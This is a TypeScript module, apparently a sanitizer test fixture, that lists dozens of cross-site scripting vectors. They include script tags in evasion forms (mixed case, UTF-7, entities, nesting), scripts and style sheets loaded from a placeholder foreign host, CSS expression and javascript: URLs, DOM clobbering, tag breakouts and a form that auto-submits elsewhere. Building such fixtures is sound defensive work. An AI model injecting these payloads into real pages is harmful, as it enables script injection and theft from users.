import { foreignHost, payload, vector, type ScriptVector } from './scriptVector';

const elsewhere = `https://${foreignHost}`;

/** Scripts themselves, style sheets, and what loads a page or names where code comes from. */
export const elementVectors: readonly ScriptVector[] = [
  vector('a script', `<script>${payload}</script>`),
  vector('a script in mixed case', `<ScRiPt>${payload}</sCrIpT>`),
  vector('a script from elsewhere', `<script src="${elsewhere}/a.js"></script>`),
  vector('a script from elsewhere, same scheme', `<script src=//${foreignHost}/a.js></script>`),
  vector('a script as data', `<script src="data:text/javascript,${payload}"></script>`),
  vector('a module', `<script type=module>${payload}</script>`),
  vector('an imported module', `<script type=module>import("${elsewhere}/a.js")</script>`),
  vector('a script with a slash', `<script/x>${payload}</script/x>`),
  vector('a script inside a script', `<scr<script>ipt>${payload}</scr</script>ipt>`),
  vector('a script never closed', `<script>${payload}`),
  vector('a script with a stray bracket', `<<script>${payload}//<</script>`),
  vector('a script after a comment', `<!-- x --!><script>${payload}</script>`),
  vector(
    'a script in a conditional comment',
    `<!--[if gte IE 4]><script>${payload}</script><![endif]-->`,
  ),
  vector('a script after a short comment', `<!--><script>${payload}</script>-->`),
  vector(
    'a script in a processing instruction',
    `<?xml version="1.0"?><script>${payload}</script>`,
  ),
  vector(
    'a script in a declaration',
    `<!DOCTYPE x [<!ENTITY y "<script>${payload}</script>">]>&y;`,
  ),
  vector('a script in CDATA', `<![CDATA[<script>${payload}</script>]]>`),
  vector('a script with NUL', `<scr&#0;ipt>${payload}</scr&#0;ipt>`),
  vector('a script in full-width letters', `＜script＞${payload}＜/script＞`),
  vector('a script in UTF-7', `+ADw-script+AD4-${payload}+ADw-/script+AD4-`),
  vector('a script in entities', `&lt;script&gt;${payload}&lt;/script&gt;`),
  vector('a script in entities twice', `&amp;lt;script&amp;gt;${payload}&amp;lt;/script&amp;gt;`),
  vector('a style sheet from elsewhere', `<link rel=stylesheet href="${elsewhere}/a.css">`),
  vector('a style sheet that imports', `<style>@import url(${elsewhere}/a.css);</style>`),
  vector('a style sheet that imports escaped', `<style>@\\69mport '${elsewhere}/a.css';</style>`),
  vector('a style sheet that runs', `<style>p{background:url("javascript:${payload}")}</style>`),
  vector('a style sheet with an expression', `<style>p{width:expression(${payload})}</style>`),
  vector(
    'a style sheet with a binding',
    `<style>p{-moz-binding:url(${elsewhere}/a.xml#x)}</style>`,
  ),
  vector('a preloaded script', `<link rel=modulepreload href="${elsewhere}/a.js">`),
  vector('an imported page', `<link rel=import href="${elsewhere}/a.html">`),
  vector('a page in a frame', `<iframe src="${elsewhere}/"></iframe>`),
  vector('a page in a frameset', `<frameset><frame src="${elsewhere}/"></frameset>`),
  vector('a page as an object', `<object data="${elsewhere}/" type="text/html"></object>`),
  vector('a page embedded', `<embed src="${elsewhere}/" type="text/html">`),
  vector('an applet', `<applet code="${elsewhere}/a.class"></applet>`),
  vector('a portal', `<portal src="${elsewhere}/"></portal>`),
  vector(
    'a page that reloads elsewhere',
    `<meta http-equiv="refresh" content="0; url=${elsewhere}/">`,
  ),
  vector(
    'a policy of its own',
    `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  ),
  vector('a cookie by a header', `<meta http-equiv="Set-Cookie" content="x=${payload}">`),
  vector('another base', `<base href="${elsewhere}/"><script src=a.js></script>`),
  vector(
    'a form that sends itself',
    `<form action="${elsewhere}/"><input autofocus onfocus=this.form.submit()></form>`,
  ),
  vector(
    'a form field that shadows',
    `<form><input name=attributes><img src=x onerror=${payload}></form>`,
  ),
  vector(
    'a name that shadows the document',
    `<img name=cookie><form id=body><input name=firstChild onfocus=${payload} autofocus></form>`,
  ),
  vector(
    'an element named like a global',
    `<a id=defaultView></a><a id=defaultView name=x href="javascript:${payload}">x</a>`,
  ),
  vector(
    'an import map',
    `<script type=importmap>{"imports":{"react":"${elsewhere}/a.js"}}</script>`,
  ),
  vector(
    'rules to load ahead',
    `<script type=speculationrules>{"prefetch":[{"urls":["${elsewhere}/"]}]}</script>`,
  ),
  vector(
    'a shadow root',
    `<div><template shadowrootmode=open><script>${payload}</script></template></div>`,
  ),
  vector('an attribute that ends early', `"><script>${payload}</script>`),
  vector('an attribute that ends early, single quotes', `'><img src=x onerror=${payload}>`),
  vector('a text field that ends early', `</textarea><script>${payload}</script>`),
  vector('a title that ends early', `</title><script>${payload}</script>`),
  vector('a style sheet that ends early', `</style><script>${payload}</script>`),
  vector('a comment that ends early', `--><script>${payload}</script>`),
  vector('JSON that ends early', `</script><script>${payload}</script>`),
  vector('a template of another framework', `{{constructor.constructor('${payload}')()}}`),
  vector('a template literal', '${' + payload + '}'),
];

/** In attributes: browsers of today run none of them, and what a person sees must not be covered. */
export const styleVectors: readonly ScriptVector[] = [
  ...[
    ['an expression', `width:expression(${payload})`],
    ['an expression cut by a comment', `width:exp/**/ression(${payload})`],
    ['an escaped expression', `width:\\65xpression(${payload})`],
    ['an address that runs', `background:url(javascript:${payload})`],
    ['an escaped address that runs', `background:url(j\\61vascript:${payload})`],
    ['a quoted address that runs', `background-image:url(&quot;javascript:${payload}&quot;)`],
    ['a page as an address', `background:url(data:text/html,${payload})`],
    ['a list mark that runs', `list-style-image:url(javascript:${payload})`],
    ['a binding', `-moz-binding:url(https://${foreignHost}/a.xml#x)`],
    ['a behaviour', `behavior:url(https://${foreignHost}/a.htc)`],
    ['a style that ends early', `color:red}</style><script>${payload}</script>`],
    ['a filter that runs', `filter:progid:DXImageTransform.X(src='javascript:${payload}')`],
  ].map(([name = '', style = '']) => vector(`style: ${name}`, `<p style="${style}">x</p>`)),
];
